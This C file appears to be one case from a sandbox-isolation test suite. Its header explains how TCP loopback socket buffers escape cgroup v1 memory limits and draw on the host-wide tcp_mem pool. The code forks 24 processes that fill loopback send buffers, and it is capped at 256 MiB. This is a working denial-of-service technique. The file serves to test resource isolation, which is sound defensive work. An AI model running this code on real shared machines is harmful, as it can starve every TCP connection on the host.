/* SPDX-License-Identifier: MIT */
/*
 * wins: socket buffers of TCP over loopback: on cgroup v1 they are not charged to memory.limit_in_bytes, and the pool that they come from (tcp_mem) is
 *       one for the whole machine: at its end every TCP connection of the host, the service's own too, is starved
 * rule: 4, 11 (what one slot takes must not be everybody's)
 * expect: ok|memory_limit|signal|process_limit|wall_limit
 * limits: memory_bytes=134217728 processes=40 wall_ms=15000 cpu_ms=15000
 * needs: memory
 * else: ok
 * else-open: tcp-buffers-over-the-limit
 * control: unsafe: takes the machine's socket memory
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>

static char block[1 << 18];

/* Pages that the whole machine's TCP holds; the third number of the line "TCP:" is not per namespace. */
static long tcp_pages(void)
{
	char text[1024], *p;
	int fd = open("/proc/net/sockstat", O_RDONLY);
	ssize_t n = read(fd, text, sizeof text - 1);
	close(fd);
	text[n > 0 ? n : 0] = 0;
	p = strstr(text, "TCP:");
	p = p ? strstr(p, " mem ") : NULL;
	return p ? atol(p + 5) : -1;
}

int main(void)
{
	long before = tcp_pages(), most = before;
	for (int k = 0; k < 24; k++)
		if (fork() == 0) {
			int l = socket(AF_INET, SOCK_STREAM, 0), size = 1 << 23;
			struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
			socklen_t len = sizeof a;
			bind(l, (struct sockaddr *)&a, sizeof a);
			listen(l, 128);
			getsockname(l, (struct sockaddr *)&a, &len);
			for (int i = 0; i < 100; i++) {
				int c = socket(AF_INET, SOCK_STREAM, 0);
				setsockopt(c, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
				if (connect(c, (struct sockaddr *)&a, sizeof a) < 0 || accept(l, NULL, NULL) < 0) break;
				while (send(c, block, sizeof block, MSG_DONTWAIT) > 0)
					;
			}
			for (;;) pause();
		}
	/* Stops at 256 MiB, twice what this run may have: enough to show it, not enough to hurt. */
	for (int i = 0; i < 600 && most < before + 65536; i++) {
		nap_ms(5);
		long now = tcp_pages();
		if (now > most) most = now;
	}
	say("TCP buffers: %ld MiB", (most - before) / 256);
	if (most - before > 128 * 256) say("WON tcp-buffers-over-the-limit");
	return end();
}
